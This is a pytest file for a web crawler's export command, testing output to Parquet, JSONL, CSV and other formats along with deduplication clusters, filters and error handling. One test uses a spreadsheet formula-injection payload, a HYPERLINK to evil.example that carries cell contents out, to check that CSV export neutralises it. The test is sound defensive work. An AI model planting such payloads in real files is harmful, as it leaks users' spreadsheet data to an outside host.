"""`export`: a crawl's pages in every format, once each, and in one step; read by users' tools."""

from __future__ import annotations

import csv
import gzip
import io
import os
import shutil
import signal
import subprocess
import sys
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import orjson
import pytest
import zstandard
from support.analysing import no_processes
from support.crawling import QUICK, command, crawl, demo_web, job_data
from support.documents import edited, text, write
from support.output import lines

from crawler.cli import main
from crawler.errors import ConfigError
from crawler.models.enums import ExportFormat
from crawler.views.export import COLUMNS, SEPARATOR, Asked, Clusters, export_crawl, row_of


@pytest.fixture(scope="module")
def crawled(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Crawl the demo web once, into files of 100 kB."""
    output = tmp_path_factory.mktemp("crawled") / "out"
    with demo_web(articles=2) as (web, _), no_processes():
        job = job_data(web, output, QUICK, {"storage": {"rotate_bytes": 100_000}})
        assert crawl(job) == 0
    return output


@pytest.fixture(scope="module")
def judged(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Judge a corpus: a text, a near duplicate that is stored, a copy of that, and another text."""
    home = tmp_path_factory.mktemp("judged")
    records = [
        {"id": "a", "text": text(1), "title": "One", "language": "en", "more": [1]},
        {"id": "b", "text": edited(1), "language": 7},
        {"id": "c", "text": edited(1)},
        {"id": "d", "text": text(2), "language_score": 1},
    ]
    corpus = write(home / "c.jsonl", records)
    with no_processes():
        code = main(["dedup", str(corpus), "--output", str(home / "out"), "--near", "tag"])
    assert code == 0
    return home / "out"


def export(directory: Path, target: Path, **asked: Any) -> Path:
    """Export a directory without a word."""
    export_crawl(directory, target, Asked(**asked))
    return target


def read_jsonl(folder: Path) -> list[dict[str, Any]]:
    """Return the rows of all parts of a folder, in order."""
    return [
        orjson.loads(line)
        for part in sorted(folder.glob("part-*.jsonl.zst"))
        for line in io.BufferedReader(zstandard.open(part, "rb"))
    ]


def rows(directory: Path, target: Path, **asked: Any) -> tuple[list[Any], list[Any]]:
    """Export as JSON lines; return what is in unique/ and in duplicates/."""
    export(directory, target, format=ExportFormat.JSONL, **asked)
    return read_jsonl(target / "unique"), read_jsonl(target / "duplicates")


def _csv_ids(folder: Path) -> Iterator[tuple[str, str]]:
    for part in sorted(folder.glob("*.csv")):
        with part.open(newline="", encoding="utf-8") as file:
            for row in csv.DictReader(file, strict=True):
                yield row["id"], row["text"].removeprefix("'")


def _dolma_ids(folder: Path) -> Iterator[tuple[str, str]]:
    for part in sorted(folder.glob("*.json.gz")):
        for line in gzip.decompress(part.read_bytes()).splitlines():
            document = orjson.loads(line)
            fields = ["id", "text", "source", "added", "created", "metadata"]
            assert list(document) == fields
            yield document["id"], document["text"]


def _parquet_ids(folder: Path) -> Iterator[tuple[str, str]]:
    import pandas  # type: ignore[import-untyped, unused-ignore]

    for part in sorted(folder.glob("*.parquet")):
        frame = pandas.read_parquet(part, columns=["id", "text"])
        yield from frame.itertuples(index=False, name=None)


READERS: dict[ExportFormat, Callable[[Path], Iterator[tuple[str, str]]]] = {
    ExportFormat.PARQUET: _parquet_ids,
    ExportFormat.PLAIN_JSONL: lambda folder: (
        (row["id"], row["text"])
        for part in sorted(folder.glob("*.jsonl"))
        for row in map(orjson.loads, part.read_bytes().splitlines())
    ),
    ExportFormat.JSONL: lambda folder: ((row["id"], row["text"]) for row in read_jsonl(folder)),
    ExportFormat.CSV: _csv_ids,
    ExportFormat.DOLMA: _dolma_ids,
}


@pytest.mark.parametrize("format_", READERS)
def test_every_stored_page_is_in_unique_once(
    crawled: Path, tmp_path: Path, format_: ExportFormat, monkeypatch: pytest.MonkeyPatch
) -> None:
    """In every format, in many parts as in one, texts and order are those of pages.jsonl."""
    stored = [(str(line["id"]), line["text"]) for line in lines(crawled, "pages")]
    monkeypatch.setattr("crawler.views.export.GROUP_ROWS", 5)
    target = export(crawled, tmp_path / "out", format=format_, part_bytes=1 << 14)
    assert list(READERS[format_](target / "unique")) == stored
    parts = sorted((target / "unique").iterdir())
    assert len(parts) > 1
    assert [part.name.split(".")[0] for part in parts] == [
        f"part-{number:05}" for number in range(len(parts))
    ]


def test_texts_alone_are_told_apart_by_form_feeds(crawled: Path, tmp_path: Path) -> None:
    """The documents of a text part are split by one separator, which no text contains."""
    target = export(crawled, tmp_path / "out", format=ExportFormat.TEXT)
    whole = (target / "unique/part-00000.txt").read_bytes().decode().removesuffix("\n")
    stored = [line["text"] for line in lines(crawled, "pages")]
    assert whole.split(SEPARATOR) == [one.replace("\f", " ") for one in stored]


def test_rows_say_what_their_lines_say(crawled: Path, tmp_path: Path) -> None:
    """Columns have the values of the lines, and a cluster has as many pages as it says."""
    unique, duplicates = rows(crawled, tmp_path / "out", dump="2026-11")
    pages, dropped = lines(crawled, "pages"), lines(crawled, "duplicates")
    for row, line in zip(unique + duplicates, pages + dropped, strict=True):
        assert list(row) == list(COLUMNS)
        assert (row["url"], row["date"]) == (line["url"], line["fetched_at"])
        assert (row["source"], row["dump"]) == (line["host"], "2026-11")
        assert row["content_digest"] == line["payload_digest"]
        assert (row["verdict"], row["similarity"]) == (line["verdict"], line["similarity"])
    assert [row["id"] for row in duplicates] == [f"d{n}" for n in range(1, len(dropped) + 1)]
    assert [row["duplicate_of"] for row in duplicates] == [
        str(line["duplicate_of"]["id"]) for line in dropped
    ]
    members: dict[str, int] = {}
    for row in unique + duplicates:
        members[row["cluster_id"]] = members.get(row["cluster_id"], 0) + 1
    assert max(members.values()) > 2
    assert all(row["cluster_size"] == members[row["cluster_id"]] for row in unique + duplicates)


def test_texts_of_dropped_pages_are_had_by_option(crawled: Path, tmp_path: Path) -> None:
    """Near duplicates and copies by text have what was kept of them; others have none."""
    _, without = rows(crawled, tmp_path / "a")
    _, with_text = rows(crawled, tmp_path / "b", dropped_text=True)
    assert {row["text"] for row in without} == {None}
    kept = [row for row in with_text if row["text"]]
    assert {row["verdict"] for row in kept} == {"near", "exact-text"}
    assert [{**row, "text": None, "title": None} for row in with_text] == without


def test_a_corpus_keeps_its_ids_fields_and_clusters(judged: Path, tmp_path: Path) -> None:
    """Stored near duplicates are in unique/ only, and a copy of one is in the cluster of both.

    Of the user's fields those that fit a column fill it; all others stay as JSON.
    """
    unique, duplicates = rows(judged, tmp_path / "out")
    assert [row["id"] for row in unique] == ["a", "b", "d"]
    assert [(row["id"], row["duplicate_of"]) for row in duplicates] == [("c", "b")]
    clusters = [(row["cluster_id"], row["cluster_size"]) for row in unique + duplicates]
    assert clusters == [("a", 3), ("a", 3), ("d", 1), ("a", 3)]
    told = [(row["title"], row["language"], row["fields"]) for row in unique]
    assert told[0] == ("One", "en", '{"more":[1]}')
    assert told[1] == (None, None, '{"language":7}')
    assert unique[2]["language_score"] == 1.0
    assert {row["dump"] for row in unique} == {"out"}


@pytest.mark.parametrize(
    ("where", "ids"),
    [
        (["language=en"], "a"),
        (["language!=en,zh"], "bdc"),
        (["verdict=near, exact-payload"], "bc"),
        (["chars>=1"], "abd"),
        (["chars >= 1", "verdict!=near"], "ad"),
        (["language_score>.5"], "d"),
        (["host=*.jsonl"], "abdc"),
        (["date>=2026"], ""),
    ],
)
def test_where_chooses_rows(judged: Path, tmp_path: Path, where: list[str], ids: str) -> None:
    """All tests must be passed; what is not known of a row passes no test but `!=`."""
    unique, duplicates = rows(judged, tmp_path / "out", where=where)
    assert "".join(row["id"] for row in unique + duplicates) == ids


def test_dates_are_compared_as_far_as_they_are_given(crawled: Path, tmp_path: Path) -> None:
    """A day or a year stands for all of its moments."""
    number = len(lines(crawled, "pages"))
    day = lines(crawled, "pages")[0]["fetched_at"][:10]
    for at, (test, every) in enumerate({f"date={day[:4]}": 1, f"date>{day}": 0}.items()):
        unique, _ = rows(crawled, tmp_path / str(at), where=[test])
        assert len(unique) == every * number


def test_tools_open_it(crawled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """DuckDB, `datasets` and datatrove read what was exported, nulls and all."""
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("HF_HOME", str(tmp_path / "hf"))
    stored = [str(line["id"]) for line in lines(crawled, "pages")]
    # datatrove passes over documents whose text is empty, whatever wrote them.
    with_text = [str(line["id"]) for line in lines(crawled, "pages") if line["text"]]
    target = export(crawled, tmp_path / "p")
    count = f"select count(*), count(duplicate_of) from '{target}/*/*.parquet'"
    dropped = len(lines(crawled, "duplicates"))
    original = f"select count(*) from '{crawled}/pages*.jsonl' where length(text) >= 0"
    program = f"""
import duckdb
assert duckdb.execute({count!r}).fetchall() == [({len(stored) + dropped}, {dropped})]
assert duckdb.execute({original!r}).fetchall() == [({len(stored)},)]
from datasets import load_dataset
from datatrove.pipeline.readers import JsonlReader, ParquetReader
assert load_dataset({str(target)!r}, split="train")["id"] == {stored}
readers = ParquetReader({str(target / "unique")!r}), JsonlReader({str(tmp_path / "j/unique")!r})
for reader in readers:
    found = list(reader.run())
    assert [one.id for one in found] == {with_text}, reader
    assert found[0].metadata["url"]
"""
    export(crawled, tmp_path / "j", format=ExportFormat.JSONL)
    # In a process of its own: what these load warns at will, and stays loaded.
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True)
    assert done.returncode == 0, done.stderr


def test_a_killed_export_leaves_nothing_of_its_name(crawled: Path, tmp_path: Path) -> None:
    """Killed with all parts written it has made nothing, and the next one is whole."""
    target = tmp_path / "out"
    if (child := os.fork()) == 0:  # pragma: no cover
        from crawler.views import export as exporting

        vars(exporting)["card"] = lambda *_: os.kill(os.getpid(), signal.SIGKILL)
        export(crawled, target)
        os._exit(1)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == -signal.SIGKILL
    assert [path.name for path in tmp_path.iterdir()] == ["out.exporting"]
    assert len(list(tmp_path.glob("out.exporting/unique/*"))) == 1
    (tmp_path / "out.exporting/unique/part-00001.parquet").touch()
    export(crawled, target, format=ExportFormat.JSONL)
    assert [path.name for path in tmp_path.iterdir()] == ["out"]
    assert len(read_jsonl(target / "unique")) == len(lines(crawled, "pages"))
    assert sorted(path.name for path in target.iterdir()) == ["README.md", "duplicates", "unique"]


def test_what_is_not_committed_is_not_exported(crawled: Path, tmp_path: Path) -> None:
    """Lines beyond what the state counts, as a running or killed crawl has, are left out."""
    copy = tmp_path / "copy"
    shutil.copytree(crawled, copy)
    for part in copy.glob("*.jsonl"):
        part.write_bytes(part.read_bytes() + b'{"id": 99, "torn')
    assert rows(copy, tmp_path / "a", dump="x") == rows(crawled, tmp_path / "b", dump="x")


def test_a_damaged_line_is_told_with_its_place(
    crawled: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A line that cannot be read ends the export with code 3 and names file and line."""
    copy = tmp_path / "copy"
    shutil.copytree(crawled, copy)
    part = sorted(copy.glob("pages*.jsonl"))[0]
    part.write_bytes(b"#" + part.read_bytes()[1:])
    code, _, err = command(capsys, "export", copy, "--output", tmp_path / "out")
    assert (code, f"{part} line 1 cannot be read back" in err) == (3, True), err
    assert not (tmp_path / "out").exists()


def test_a_test_that_no_dropped_page_can_pass_is_told(
    crawled: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Without texts dropped pages have no `chars`; the line names the flag that adds them."""
    for flags in ([], ["--with-dropped-text"]):
        given = ["--output", tmp_path / f"out{len(flags)}", "--where", "chars>=1", *flags]
        _, _, err = command(capsys, "export", crawled, *given)
        assert ("pass no test of `chars`" in err) == (not flags)


def test_a_failing_export_leaves_nothing(
    crawled: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """A full disk is told with the way out, and what was begun is removed."""

    def full(*_: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("crawler.views.export.os.fsync", full)
    code, _, err = command(capsys, "export", crawled, "--output", tmp_path / "out")
    assert (code, "No space left on device" in err, "unharmed" in err) == (3, True, True)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("given", "told"),
    [
        (["--where", "size>3"], "fields: language, "),
        (["--where", "verdict>new"], "> takes one value"),
        (["--where", "chars=many"], "chars is a number, not 'many'"),
        (["--where", "date>=yesterday"], "2026-01-31"),
        (["--where", "host="], "no value"),
        (["--format", "xlsx"], "invalid choice: 'xlsx'"),
        (["--part-size", "1KiB"], "64KiB"),
        (["--output", "corpus.jsonl"], "a name without .jsonl"),
    ],
)
def test_bad_flags_are_told(
    tmp_path: Path, crawled: Path, capsys: pytest.CaptureFixture[str], given: list[str], told: str
) -> None:
    """One line names the flag, what is wrong and what is right; nothing is made."""
    code, _, err = command(capsys, "export", crawled, "--output", tmp_path / "out", *given)
    assert code == 2
    assert told in err
    assert len(err.splitlines()) == 1
    assert list(tmp_path.iterdir()) == []


def test_bad_places_are_told(
    tmp_path: Path, crawled: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """No crawl, a directory or file that exists, and what is not ours: exit code 2, untouched."""
    (tmp_path / "full").mkdir()
    (tmp_path / "full/mine").touch()
    (tmp_path / "x.exporting").mkdir()
    (tmp_path / "x.exporting/mine").touch()
    for directory, name, told in (
        (tmp_path, "out", "holds no crawl"),
        (crawled, "full", "not empty"),
        (crawled, "full/mine", "is a file"),
        (crawled, "x", "no unfinished export"),
    ):
        code, _, err = command(capsys, "export", directory, "--output", tmp_path / name)
        assert (code, told in err) == (2, True), err
    assert (tmp_path / "full/mine").exists()
    assert (tmp_path / "x.exporting/mine").exists()


@pytest.mark.usefixtures("no_analysis_processes")
def test_a_spreadsheet_obeys_no_page(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Texts that begin a formula are marked in CSV, in every column, and in no other format."""
    odd = '=HYPERLINK("http://evil.example/?"&A1,"on")'
    corpus = write(tmp_path / "c.jsonl", [{"id": "@a", "text": f"-1 {text(1)}", "title": odd}])
    out = tmp_path / "out"
    assert command(capsys, "dedup", corpus, "--output", out)[0] == 0
    folder = export(out, tmp_path / "csv", format=ExportFormat.CSV) / "unique"
    [part] = folder.glob("*.csv")
    with part.open(newline="", encoding="utf-8") as file:
        [row] = csv.DictReader(file)
    assert (row["title"], row["id"], row["text"][:3]) == (f"'{odd}", "'@a", "'-1")
    [plain], _ = rows(out, tmp_path / "jsonl")
    assert (plain["title"], plain["id"], plain["text"][:2]) == (odd, "@a", "-1")
    sql = "SELECT '=1' AS a, -1 AS b, id AS c FROM pages"
    assert command(capsys, "query", out, sql, "--csv")[1] == "a,b,c\n'=1,-1,1\n"


def test_without_pyarrow_the_extra_is_named(
    crawled: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Parquet says how to get what it needs; other formats do without."""
    monkeypatch.setitem(sys.modules, "pyarrow", None)
    with pytest.raises(ConfigError, match=r"inline-crawler\[corpora\]"):
        export(crawled, tmp_path / "out")
    assert export(crawled, tmp_path / "csv", format=ExportFormat.CSV).is_dir()


def test_rows_say_what_their_url_mirrors() -> None:
    """What and how far; nothing where nothing was known."""
    mirror = {"of": "www.a.test/", "agree": 0.97, "pages": 40}
    for line, told in (({"mirror": mirror}, ("www.a.test/", 0.97)), ({}, (None, None))):
        row = row_of({"url": "http://old.a.test/", "text": "t", **line}, "1", "dump")
        assert (row["mirror_of"], row["mirror_agree"]) == told


def test_a_page_of_an_earlier_crawl_is_not_that_of_its_url_here() -> None:
    """What copies the earlier page at a URL is in a cluster of its own."""
    earlier = {"id": 1, "url": "u", "against": "/old"}
    here = {"id": 2, "url": "v"}
    copies = [("b", earlier), ("u", here)]
    clusters = Clusters(copies)
    stored: dict[str, Any] = {"id": "2", "cluster_id": None, "cluster_size": None}
    clusters.place(stored, {"url": "v", "verdict": "new", "duplicate_of": None})
    copy: dict[str, Any] = {"id": "d1", "cluster_id": None, "cluster_size": None}
    clusters.place(copy, {"url": "b", "verdict": "near", "duplicate_of": earlier})
    assert (stored["cluster_id"], stored["cluster_size"]) == ("2", 2)
    assert (copy["cluster_id"], copy["cluster_size"]) == ("u", 2)


def test_dates_in_parquet_are_timestamps(crawled: Path, tmp_path: Path) -> None:
    """They are moments in UTC to the millisecond, those of the lines."""
    import pyarrow.parquet as pq  # type: ignore[import-untyped, unused-ignore]

    target = export(crawled, tmp_path / "out", format=ExportFormat.PARQUET)
    table = pq.read_table(target / "unique")
    assert str(table.schema.field("date").type) == "timestamp[ms, tz=UTC]"
    written = {line["url"]: line["fetched_at"] for line in lines(crawled, "pages")}
    for row in table.select(["url", "date"]).to_pylist():
        assert row["date"] == datetime.fromisoformat(written[row["url"]])


@pytest.mark.parametrize(
    ("date", "column"), [("2026-01-31", "2026-01-31"), ("last winter", None), ("", None)]
)
def test_a_date_of_a_corpus_that_is_none_stays_among_its_fields(
    date: str, column: str | None
) -> None:
    """A column of dates has dates alone; nothing of the user's is lost."""
    line = {"url": "a", "text": "t", "fields": {"date": date}}
    row = row_of(line, "a", "dump")
    assert row["date"] == column
    assert row["fields"] == (None if column else orjson.dumps({"date": date}).decode())
